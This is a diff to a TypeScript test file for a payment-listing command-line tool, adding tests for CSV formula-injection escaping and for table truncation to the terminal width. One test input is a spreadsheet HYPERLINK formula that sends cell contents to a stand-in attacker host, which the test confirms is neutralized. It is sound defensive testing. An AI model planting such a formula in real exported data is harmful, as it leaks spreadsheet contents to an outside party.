@@ -13,6 +13,7 @@ import {
   LIST_COLUMNS,
   listRow,
   renderTable,
+  terminalWidth,
   formatDuration,
   createProgress,
   progressLine,
@@ -108,6 +109,27 @@ csv('quotes commas, double quotes, CR and LF as RFC 4180 says, and nothing else'
   assert.is(csvRow(['a', 'b,c', null]), 'a,"b,c",\r\n')
 })
 
+csv('a cell a spreadsheet would run as a formula gets a leading quote; plain numbers do not', () => {
+  for (const formula of [
+    '=1+1',
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '+1+2',
+    '-3+4',
+    '@SUM(1+1)',
+    '\tx',
+    '\rx',
+  ]) {
+    const field = csvField(formula)
+    const [cell] = parseCsv(`${field}\r\n`)[0] as string[]
+    assert.is(cell, `'${formula}`, JSON.stringify(formula))
+  }
+  // Numbers cannot run anything and must stay numbers (a negative amount is summed).
+  for (const n of ['-12.50', '+3', '-7', '0.00']) assert.is(csvField(n), n)
+  assert.is(csvField(-12.5), '-12.5')
+  assert.is(csvField('a=b'), 'a=b')
+  assert.is(csvField('- item'), "'- item")
+})
+
 csv('a row with every special character parses back to the same fields', () => {
   const nasty = ['x,y', '"quoted"', 'multi\r\nline', 'trailing "', ',', '""', 'ünïcödé']
   const rows = parseCsv(csvRow(nasty) + csvRow(['plain']))
@@ -165,6 +187,24 @@ table('renders aligned columns with the amount right-aligned and no trailing spa
     ].join('\n'),
   )
   for (const line of out.split('\n')) assert.is(line, line.trimEnd())
+})
+
+table('a width limit truncates the widest column first, with an ellipsis, and leaves the rest whole', () => {
+  const id = 'pi_1234567890123456789012345'
+  const rows = [listRow(intent({ id })), listRow(intent())]
+  const natural = renderTable(LIST_COLUMNS, rows)
+  const width = Math.max(...natural.split('\n').map((l) => l.length))
+  const fitted = renderTable(LIST_COLUMNS, rows, width - 10)
+    .trimEnd()
+    .split('\n')
+  for (const line of fitted) assert.ok(line.length <= width - 10, line)
+  // The id column (28 wide) gives up the 10 characters, its last one an ellipsis.
+  assert.ok((fitted[1] as string).startsWith(`${id.slice(0, 28 - 10 - 1)}…  wooshpay  succeeded`), fitted[1])
+  assert.ok((fitted[1] as string).endsWith('10.99 USD  2024-05-01 12:34:56'))
+  assert.is(renderTable(LIST_COLUMNS, rows, 1000), natural)
+  assert.is(terminalWidth({ COLUMNS: '72' }, 200), 72)
+  assert.is(terminalWidth({}, 120), 120)
+  assert.is(terminalWidth({ COLUMNS: 'wide' }), undefined)
 })
 
 table('rawLast moves raw to the end and keeps every other field', () => {
